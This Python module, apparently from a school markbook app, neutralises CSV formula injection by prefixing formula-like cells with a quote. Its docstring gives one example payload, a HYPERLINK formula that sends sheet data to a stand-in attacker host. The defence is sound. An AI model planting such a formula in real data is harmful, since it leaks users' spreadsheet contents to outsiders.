"""CSV files that people open in a spreadsheet, safe from formula injection (SEC-1).

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@`
(and, through a tab or carriage return before them, some others) as a formula: a
pupil named `=HYPERLINK("https://evil.example?"&A1,"Click")` would leak the sheet's
data, or worse. Markbook stores such values as given (they are somebody's data) and
neutralises them only where they leave for a person's spreadsheet: every CSV a
person downloads is written by `csv_for_people`, which prefixes such a cell with a
single quote `'`, as OWASP advises ("CSV Injection"); the spreadsheet then shows the
text. A test fails for a `csv.writer` anywhere else in the code.

The OneRoster zip is the one exception: its files are read by other systems, not
people, and must round-trip exactly (rosters.oneroster.export).
"""

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: str) -> bool:
    """Whether a spreadsheet could read `value` as a formula."""
    return value.startswith(FORMULA_STARTS)


def neutralise(value: object) -> str:
    """A cell as a spreadsheet shows it as text: `'` before a formula-like value."""
    text = "" if value is None else str(value)
    return "'" + text if formula_like(text) else text


def csv_for_people(
    header: Sequence[str], rows: Iterable[Sequence[object]], *, lineterminator: str = "\r\n"
) -> str:
    """A CSV file for a person's spreadsheet: every cell neutralised (RFC 4180 quoting)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return out.getvalue()
